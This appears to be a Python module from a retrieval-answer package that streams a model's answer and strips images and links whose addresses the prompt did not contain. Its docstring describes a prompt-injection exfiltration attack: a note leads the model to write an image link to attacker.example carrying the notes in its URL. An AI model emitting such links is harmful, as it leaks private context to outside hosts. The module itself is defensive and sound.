"""The answer's links and images held to the context: nothing in it makes a reader fetch or
follow an address the notes did not give.

A note can talk the model into writing ``![x](https://attacker.example/p.png?d=<notes>)``: a
client that renders Markdown fetches the image and sends the notes along in its address. So,
after the citations are rendered: every image (``![alt](url)``, ``![alt][ref]``, ``<img>``) is
replaced by its alt text (``![alt]`` by ``! [alt]``); a link (``[text](url)``, a definition
``[x]: url``, ``<url>``, a bare ``https://…`` or ``www.…``, an HTML tag's ``href``) whose
address the prompt did not show the model, word for word, loses its address (``[text](url)``
keeps ``[text]``, so a citation marker the model linked stays whole); any other HTML tag that
loads something (``src=``, ``style=``) is removed, and so is the closing tag of a tag removed.
Code is no exception: renderers differ on what is code, and an address stays one.

The answer is read in stretches (``answer.links_settle``), each held to the context on its own
(``answer.links_render``), whole or streamed alike. The invariant kept: a stretch is sent only
once nothing that may follow can make it part of an image or of a link to an address not given,
and what is sent is never taken back; so the pieces a ``LinkStream`` sends add up to
``inert_links`` of the whole text, however it was cut. A ``[`` holds the text back only a while
(to its line's end, or ``HELD_CHARS``): then the text after it is sent, and should the bracket
close into a link after all, the ``(url)`` after its ``]`` is a stretch of its own, judged as
any link's address; a ``![`` sent so is never an image (``! [``).
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence

from knotwork.answer.cite_stream import CitationStream, Stripped
from knotwork.answer.links_render import REMOVED, Render, Unlinked
from knotwork.answer.links_settle import DEFINITION, GONE, IMAGE, LINK, OPEN, Settled
from knotwork.retrieve import Hit

__all__ = ["REMOVED", "AnswerStream", "LinkStream", "Unlinked", "inert_links"]


def inert_links(text: str, given: str) -> Unlinked:
    """``text`` with its images made text and the addresses ``given`` does not hold removed,
    stripped as an answer is."""
    stream = LinkStream(given)
    stream.result.text = stream.close(text)
    return stream.result


class LinkStream:
    """The rendered answer fed piece by piece; each call returns the text now settled, links
    checked, its whitespace trimmed as the whole answer's is."""

    def __init__(self, given: str) -> None:
        self._render = Render(given)
        self._settled = Settled()
        self._text = ""
        self._pos = 0
        self._done = 0  # stretches sent
        self._stripped = Stripped()

    @property
    def result(self) -> Unlinked:
        """What was removed so far (``text`` is the caller's)."""
        return self._render.result

    def _emit(self, final: bool) -> str:
        self._settled(self._text, final)
        out = []
        for end, kind in self._settled.pieces[self._done :]:
            out.append(self._stretch(self._text[self._pos : end], kind))
            self._pos = end
        self._done = len(self._settled.pieces)
        return self._stripped.send("".join(out), final)

    def _stretch(self, text: str, kind: str) -> str:
        if kind == OPEN:
            return " ["
        if kind in (LINK, IMAGE):
            return self._render.destination(text, image=kind == IMAGE)
        if kind in (GONE, DEFINITION):
            return ""  # an image's "![" and "]"; the ":" that would make a line define a link
        return self._render.text(text)

    def feed(self, piece: str) -> str:
        self._text += piece
        return self._emit(final=False)

    def close(self, piece: str = "") -> str:
        """The rest of the text, ``piece`` last, now that the answer is complete."""
        self._text += piece
        return self._emit(final=True)


class AnswerStream:
    """The model's answer fed piece by piece, citations rendered (``CitationStream``), then
    links held to the context: the pieces add up to ``inert_links`` of the checked answer."""

    def __init__(
        self, hits: Sequence[Hit], sources: Mapping[int, Hit] | None = None, given: str = ""
    ) -> None:
        self._cited = CitationStream(hits, sources, given)
        self._linked = LinkStream(given)

    def feed(self, delta: str) -> str:
        return self._linked.feed(self._cited.feed(delta))

    def close(self) -> str:
        return self._linked.close(self._cited.close())

    def cut(self) -> str:
        """As ``CitationStream.cut``: the rest of an answer a limit cut off."""
        return self._linked.close(self._cited.cut())

    @property
    def text(self) -> str:
        """The model's text as fed (less a marker ``cut`` left out)."""
        return self._cited.text
